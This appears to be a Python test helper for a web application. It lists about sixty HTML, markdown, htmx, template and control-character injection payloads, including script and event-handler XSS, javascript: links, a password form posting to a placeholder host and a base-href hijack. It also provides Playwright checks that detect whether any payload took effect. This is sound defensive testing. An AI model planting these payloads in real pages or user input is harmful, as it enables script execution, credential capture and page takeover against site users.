"""Texts that try to change a page: each would leave a mark that `marks_on` finds."""

from typing import Any, Final

from playwright.async_api import Page

_DO = "planted()"
_MARK = 'data-planted="1"'

HOSTILE: Final[tuple[str, ...]] = (
    f"<script>{_DO}</script>",
    f"<SCRIPT {_MARK}>{_DO}</SCRIPT>",
    f"<script src=https://planted.example/x.js {_MARK}></script>",
    f"</script><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</pre><b {_MARK}>",
    f"</template><b {_MARK}>",
    f"--><b {_MARK}><!--",
    f"]]><b {_MARK}>",
    f"<img src=x onerror={_DO} {_MARK}>",
    f"<img/src=x/onerror={_DO}/{_MARK}>",
    f'"><img src=x onerror={_DO} {_MARK}>',
    f"'><img src=x onerror={_DO} {_MARK}>",
    f'" onmouseover="{_DO}" {_MARK} x="',
    f"' onfocus='{_DO}' autofocus {_MARK} x='",
    f"` onclick={_DO} {_MARK}",
    f"<svg onload={_DO} {_MARK}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><a xlink:href='javascript:{_DO}' {_MARK}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO} {_MARK}>",
    f"<details open ontoggle={_DO} {_MARK}>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>' {_MARK}></iframe>",
    f"<iframe src='javascript:parent.{_DO}' {_MARK}></iframe>",
    f"<object data='javascript:{_DO}' {_MARK}></object>",
    f"<embed src='javascript:{_DO}' {_MARK}>",
    f"<base href='https://planted.example/' {_MARK}>",
    f"<meta http-equiv=refresh content='0;url=https://planted.example/' {_MARK}>",
    f"<link rel=stylesheet href=https://planted.example/x.css {_MARK}>",
    f"<style {_MARK}>body {{ display: none }}</style>",
    f"<form action=https://planted.example/ {_MARK}><input name=password></form>",
    f"<button form=say formaction=https://planted.example/ {_MARK}>Send</button>",
    f"<input autofocus onfocus={_DO} {_MARK}>",
    f"<div hx-get=/inbox hx-trigger=load {_MARK}></div>",
    f"<div data-details=https://planted.example/ {_MARK}></div>",
    f"<div hx-on:click={_DO} {_MARK}></div>",
    f"<div data-hx-get=https://planted.example/ data-hx-trigger=load {_MARK}></div>",
    f"<div sse-connect=https://planted.example/ hx-ext=sse {_MARK}></div>",
    f'<ol id="talk" hx-swap-oob="true" {_MARK}></ol>',
    f'<span data-title="planted" {_MARK}></span>',
    f'<span data-announce="planted" {_MARK}></span>',
    f"[a link](javascript:{_DO})",
    f"[a link](data:text/html,<script>{_DO}</script>)",
    f"[a link](vbscript:{_DO})",
    "![a picture](https://planted.example/x.png)",
    f"![x](x \"onerror='{_DO}'\")",
    f"[x]: javascript:{_DO}\n[x]",
    f"<javascript:{_DO}>",
    f"```html\n</code></pre><b {_MARK}>\n```",
    f"`</code><b {_MARK}>`",
    f"# <b {_MARK}>",
    f"| <b {_MARK}> | b |\n|---|---|\n| c | d |",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;script&#62;{_DO}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    "{{ 7*7 }} {% include 'base.html' %} ${7*7} #{7*7}",
    "event: end\ndata: planted\n\nevent: text\ndata: planted\n\n",
    "\u202eplanted\u202c \u2066planted\u2069 \u200b\u200d\ufeff",
    "\x1b[2K\x1b[1A\x9b2K\x7f\r\n\x0bplanted",
    "\U000e0041\U000e0042 \ue000 \u2028 \u2029",
    "A" * 3_000 + f"<b {_MARK}>",
)

WATCH: Final = "() => { window.planted = () => { window.wasPlanted = true; } }"
LOOK: Final = """() => ({
  ran: window.wasPlanted === true,
  marks: [...document.querySelectorAll("[data-planted]")].map(one => one.outerHTML.slice(0, 120)),
  handlers: [...document.querySelectorAll("main *, footer *, header *")].flatMap(one =>
    [...one.attributes].filter(a => a.name.startsWith("on")).map(a => a.name)),
  links: [...document.querySelectorAll("a[href]")].map(one => one.protocol)
    .filter(one => !["http:", "https:", "mailto:"].includes(one)),
  pictures: [...document.images].map(one => one.src).filter(one => one.includes("planted")),
  title: document.title.includes("planted") && document.title.length < 20,
})"""


async def watch(page: Page) -> list[str]:
    """Note what a page does that it should not: questions to other hosts, and dialogs."""
    found: list[str] = []
    page.on("dialog", lambda dialog: found.append(dialog.message))
    page.on(
        "request",
        lambda request: (
            None
            if "127.0.0.1" in request.url[:20] or request.url.startswith(("data:", "blob:"))
            else found.append(request.url)
        ),
    )
    await page.add_init_script(f"({WATCH})()")
    return found


async def marks_on(page: Page) -> list[str]:
    """Return what of a page was changed by a hostile text."""
    found: dict[str, Any] = await page.evaluate(LOOK)
    return [f"{name}: {value}" for name, value in found.items() if value]
